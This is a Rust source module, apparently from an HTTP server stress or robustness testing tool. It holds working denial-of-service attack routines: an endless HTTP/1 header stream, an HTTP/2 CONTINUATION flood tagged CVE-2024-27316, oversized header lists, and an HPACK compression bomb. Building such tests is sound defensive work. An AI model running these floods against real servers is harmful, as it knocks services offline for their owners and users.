//! Heads of requests that are too much: in length, in fields, or in what they unpack to.

use std::io;

use tokio::io::{AsyncWriteExt, split};

use super::frames::{
    self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PAYLOAD_BYTES, frame, stream,
};
use super::http1;
use super::http2::begin;
use super::plan::Plan;
use super::wire::Wire;

/// A head of HTTP/2 that ends has so many bytes.
const LIST_BYTES: usize = 8 << 20;

/// A field that just fits into the table of 4,096 bytes, which counts 32 more for each.
const ENTRY_BYTES: usize = 4_096 - 32 - 1;

/// The first field of the dynamic table: one byte that means all of it.
const FIRST_ENTRY: u8 = 0x80 | 62;

const METHOD: &[(&str, &str)] = &[
    (":method", "GET"),
    (":scheme", "http"),
    (":path", "/livez"),
    (":authority", "localhost"),
];

pub(super) async fn endless(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = split(wire);
    let lines = async {
        writing
            .write_all(http1::head("GET", "/livez", "").as_bytes())
            .await?;
        let line = format!("X-Long: {}\r\n", "a".repeat(1_000));
        loop {
            writing.write_all(line.as_bytes()).await?;
            plan.count_stroke();
            tokio::task::yield_now().await;
        }
    };
    tokio::select! {
        ended = http1::drain(reading, plan.clone()) => ended,
        ended = lines => ended,
    }
}

/// CVE-2024-27316 and others of 2024.
pub(super) async fn continuation(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[]).await?;
    let pieces = async {
        let begun = frame(HEADERS, END_STREAM, stream(0), &frames::block(METHOD));
        writing.write_all(&begun).await?;
        let piece = frame(CONTINUATION, 0, stream(0), &fields());
        loop {
            writing.write_all(&piece).await?;
            plan.count_stroke();
            tokio::task::yield_now().await;
        }
    };
    reading.while_doing(pieces).await
}

pub(super) async fn list(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[]).await?;
    let lists = async {
        for next in 0.. {
            let block = frames::block(METHOD);
            writing
                .write_all(&frame(HEADERS, END_STREAM, stream(next), &block))
                .await?;
            let piece = frame(CONTINUATION, 0, stream(next), &fields());
            for _ in 0..LIST_BYTES / PAYLOAD_BYTES {
                writing.write_all(&piece).await?;
                plan.count_stroke();
            }
            let last = frame(CONTINUATION, END_HEADERS, stream(next), &[]);
            writing.write_all(&last).await?;
        }
        Ok(())
    };
    reading.while_doing(lists).await
}

/// As many fields as a frame has room for.
fn fields() -> Vec<u8> {
    let mut fields = Vec::new();
    while fields.len() + 128 < PAYLOAD_BYTES {
        frames::literal(0, b"x-long", &[b'a'; 100], &mut fields);
    }
    fields
}

/// A field goes to the table once, and is named a thousand times a request: 4 MiB in 1 KiB.
pub(super) async fn hpack_bomb(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[]).await?;
    let bombs = async {
        for next in 0.. {
            let mut block = frames::block(METHOD);
            frames::literal(0x40, b"x", &[b'a'; ENTRY_BYTES], &mut block);
            block.resize(block.len() + 1_000, FIRST_ENTRY);
            let bomb = frame(HEADERS, END_STREAM | END_HEADERS, stream(next), &block);
            writing.write_all(&bomb).await?;
            plan.count_stroke();
            tokio::task::yield_now().await;
        }
        Ok(())
    };
    reading.while_doing(bombs).await
}
